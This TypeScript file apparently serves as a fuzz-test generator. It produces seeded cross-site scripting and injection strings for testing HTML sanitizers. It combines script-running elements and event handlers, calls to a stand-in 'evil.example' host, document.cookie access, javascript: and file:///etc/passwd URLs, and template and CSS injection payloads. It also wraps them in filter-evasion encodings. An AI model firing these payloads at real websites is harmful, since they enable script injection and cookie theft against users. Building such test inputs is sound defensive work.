/** A generator of numbers between 0 and 1 that gives the same ones for the same seed. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const elements = [
  ...['script', 'img', 'svg', 'iframe', 'style', 'link', 'base', 'object', 'embed', 'form', 'math', 'template', 'meta', 'video', 'audio'],
  ...['a', 'body', 'html', 'input', 'button', 'details', 'marquee', 'noscript', 'textarea', 'foreignObject', 'animate', 'use', 'x-y'],
];
const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onanimationstart',
  'formaction',
  'srcdoc',
  'style',
];
const codes = [
  'alert(1)',
  'alert`1`',
  'fetch("//evil.example")',
  'import("https://evil.example/x.js")',
  'eval(name)',
  '(0,eval)(1)',
  'document.cookie',
];
const addresses = [
  ...['https://evil.example/x', 'HTTP://evil.example', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'vbscript:x'],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
  ],
];
const templates = ['{{constructor.constructor("x")()}}', `$${'{7*7}'}`, '<%= 7*7 %>', '#{7*7}', '{%raw%}', '{{{html}}}', '{{__proto__}}'];
const styles = [
  'expression(alert(1))',
  'url(javascript:alert(1))',
  '@import "https://evil.example/x.css"',
  'background:url(//evil.example/x)',
];
const marks = ['\u0000', '\u0009', '\u00ad', '\u200b', '\u2028', '\u202e', '\ufeff', '\u{e0001}'];

/** Another way to write the same, as somebody does who wants to get past a filter. */
const disguises: ((text: string, random: () => number) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text, random) => [...text].map((letter) => (random() < 0.5 ? letter.toUpperCase() : letter)).join(''),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;'),
  (text) => text.replaceAll('<', '<\u00ad'),
  (text) => text.replaceAll('<', '< '),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '%3C'),
  (text, random) => {
    const at = Math.floor(random() * text.length);
    return text.slice(0, at) + (marks[Math.floor(random() * marks.length)] ?? '') + text.slice(at);
  },
  (text) => `Words before ${text} and after`,
  (text) => `"'>${text}`,
  (text) => `--></title></style></textarea>${text}`,
  (text) => `]]>${text}`,
];

/** Hostile texts: elements, handlers, styles, foreign addresses and templates in many disguises, the same ones for the same seed. */
export function hostileTexts(count: number, seed: number): string[] {
  const random = seeded(seed);
  const one = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const kinds: (() => string)[] = [
    () => `<${one(elements)}>${one(codes)}</${one(elements)}>`,
    () => `<${one(elements)} ${one(handlers)}=${one(codes)}>`,
    () => `<${one(elements)}/${one(handlers)}="${one(codes)}"/x>`,
    () => `<${one(elements)} src="${one(addresses)}" href='${one(addresses)}'>`,
    () => `<a href="${one(addresses)}" style="${one(styles)}">x</a>`,
    () => `<style>${one(styles)}</style>`,
    () => one(addresses),
    () => `${one(handlers)}="${one(codes)}"`,
    () => one(templates),
    () => `<!--${one(codes)}--><![CDATA[${one(codes)}]]>`,
    () => `<${one(elements)}\n${one(handlers)}\r=\t'${one(codes)}'`,
  ];
  return Array.from({ length: count }, () => one(disguises)(one(kinds)(), random));
}
